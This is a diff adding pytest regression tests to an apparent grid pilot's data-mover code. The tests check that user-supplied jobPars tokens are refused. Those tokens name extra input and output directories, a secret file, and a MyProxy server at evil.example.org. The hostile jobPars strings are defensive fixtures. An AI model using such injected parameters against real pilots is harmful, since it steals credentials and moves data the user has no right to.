@@ -193,3 +193,80 @@ def test_job_from_panda_is_the_library_call(site: Site, site_files, tmp_path: Pa
     assert job.job_id == "4242000001" and job.report is not None
     assert job.report.metadata["panda_id"] == 4242000001
     assert PandaJob.from_dict(data).listed_files()[0].checksum == Checksum("adler32", "00000001")
+
+
+def test_a_users_jobpars_steers_no_data_movement_and_names_no_myproxy_server(site: Site, tmp_path: Path):
+    """Issue 19: jobPars is the user's payload command line; tokens appended to it fetched files
+    the description never listed, sent files where the user chose, and made the pilot log on to
+    a MyProxy server of the user's choosing, all with the pilot's own credential."""
+    inputs = seeded_inputs(site)
+    secret = site.grid.gridftp_dir / "not-yours" / "secret.dat"
+    secret.parent.mkdir(parents=True, exist_ok=True)
+    secret.write_bytes(b"the pilot's robot can read this; the user may not")
+    grabbed = site.grid.gridftp_url("not-yours/")
+    dropped = site.grid.xrootd_url("dropped/")
+    hostile = (
+        f"--maxEvents=10 dir-in={grabbed} files-in=secret.dat dir-out={dropped} files-out=HITS.pool.root.1 "
+        "myproxy-server=evil.example.org:7512 globus-user=someone-else"
+    )
+    queue = queuedata(site, {"pr": ["rucio", "xrdcp"], "pw": ["xrdcp"]})
+    job = getjob(site, inputs, ["HITS.pool.root.1"], jobPars=hostile)
+    done = run_cli(
+        "run",
+        "--panda-job",
+        str(write_json(tmp_path / "job.json", job)),
+        "--queue-config",
+        str(write_json(tmp_path / "queue.json", queue)),
+        "--workdir",
+        str(tmp_path / "work"),
+        "--",
+        "sh",
+        "-c",
+        PAYLOAD,
+    )
+    assert done.returncode == 0, done.stderr
+    report = json.loads((tmp_path / "work" / "pilot_movers_report.json").read_text())
+    moved_in = [f["name"] for f in report["phases"]["stage-in"]["files"]]
+    assert sorted(moved_in) == sorted(i["lfn"] for i in inputs), "only the description's inputs"
+    assert not (tmp_path / "work" / "secret.dat").exists()
+    assert not (site.grid.xrootd_dir / "dropped").exists(), "nothing went where jobPars said"
+    assert report["credentials"] is None or "evil" not in json.dumps(report["credentials"])
+    assert any("not honoured" in note and "files-in=secret.dat" in note for note in report["setup"]), report["setup"]
+
+
+def test_jobpars_honoured_by_the_queue_never_move_data_with_the_pilots_credential(site: Site, tmp_path: Path):
+    """With [panda] data_in_jobpars (the 2012 dataPilot style) a user's own parameters move data
+    only with the user's proxy from MyProxy: without a MyProxy logon the job is refused."""
+    inputs = seeded_inputs(site)
+    queue = queuedata(site, {"pr": ["rucio", "xrdcp"], "pw": ["xrdcp"]}, panda={"data_in_jobpars": True})
+    job = getjob(
+        site, inputs, ["HITS.pool.root.1"], jobPars=f"--maxEvents=1 dir-in={site.grid.gridftp_url('x/')} files-in=a"
+    )
+    done = run_cli(
+        "run",
+        "--panda-job",
+        str(write_json(tmp_path / "job.json", job)),
+        "--queue-config",
+        str(write_json(tmp_path / "queue.json", queue)),
+        "--workdir",
+        str(tmp_path / "work"),
+        "--",
+        "true",
+    )
+    assert done.returncode == 1, done.stderr
+    report = json.loads((tmp_path / "work" / "pilot_movers_report.json").read_text())
+    assert report["error"]["name"] == "BADQUEUECONFIGURATION"
+    assert "never move data with the pilot's credential" in report["error"]["message"]
+    assert report["phases"] == {}, "nothing was moved"
+
+
+def test_a_myproxy_server_named_by_a_job_is_refused_unless_the_queue_allows_it(tmp_path: Path):
+    """A job's myproxy-server= made the pilot send its passphrase, or present its proxy, there."""
+    queue = tmp_path / "q.json"
+    queue.write_text(json.dumps({"copytool": "local"}))
+    params = f"globus-user=mxp myproxy-server=evil.example.org:7512 in-mode=local dir-in={tmp_path} files-in=q.json"
+    done = run_cli("run", "--dry-run", "--job-params", params, "--queue-config", str(queue))
+    assert done.returncode == 2
+    assert "myproxy-server=evil.example.org:7512" in done.stderr and "allowed_servers" in done.stderr
+    queue.write_text(json.dumps({"copytool": "local", "myproxy": {"allowed_servers": ["evil.example.org"]}}))
+    assert run_cli("run", "--dry-run", "--job-params", params, "--queue-config", str(queue)).returncode == 0
